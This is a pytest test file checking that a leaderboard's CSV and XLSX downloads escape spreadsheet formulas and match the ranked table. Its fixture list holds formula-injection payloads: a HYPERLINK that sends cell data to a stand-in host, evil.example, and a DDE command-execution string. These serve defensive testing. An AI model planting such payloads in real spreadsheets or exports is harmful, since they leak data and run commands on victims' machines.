"""CSV/XLSX downloads: same rows as the table, spreadsheet formulas neutralised."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.public_helpers import BANDS, publish

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def evil_board(factory):
    units = [factory.unit(code=f"00{i}", name=name) for i, name in enumerate(EVIL, start=1)]
    units.append(factory.unit(code="005", name="Quận Ba Đình"))
    camp = factory.campaign(units=units, slug="ex", settings={"bands": BANDS})
    publish(camp, [(u, 90 - 10 * i, i + 1, {"I": 50, "II": 40 - 10 * i}) for i, u in enumerate(units)])
    return camp


def test_csv_neutralises_formulas_and_matches_the_table(client, evil_board):
    resp = client.get("/leaderboard.csv?campaign=ex")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    text = resp.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:9] == ["Hạng", "Đồng hạng", "Mã đơn vị", "Đơn vị", "Cụm", "Điểm", "Xếp loại", "Lý do xếp loại",
                          "Thay đổi hạng"]
    names = [r[3] for r in body]
    assert names == ["'" + n for n in EVIL] + ["Quận Ba Đình"]
    # nothing in any cell starts with a formula character
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    # ranks and scores as in the ranked table: 90, 80, 70, 60, 50
    assert [(r[0], r[2], r[5]) for r in body] == [("1", "001", "90.0"), ("2", "002", "80.0"), ("3", "003", "70.0"),
                                                  ("4", "004", "60.0"), ("5", "005", "50.0")]


def test_xlsx_neutralises_formulas(client, evil_board):
    resp = client.get("/leaderboard.xlsx?campaign=ex")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    # XLSX has types: names are string cells holding exactly the text (no apostrophe needed or added)
    names = [ws.cell(row=i, column=4) for i in range(2, 7)]
    assert [c.value for c in names] == EVIL + ["Quận Ba Đình"]
    assert {c.data_type for c in names} == {"s"}
    assert [ws.cell(row=i, column=6).value for i in range(2, 7)] == [90, 80, 70, 60, 50]


def test_export_of_unknown_campaign_is_404(client, evil_board):
    assert client.get("/leaderboard.csv?campaign=nope").status_code == 404
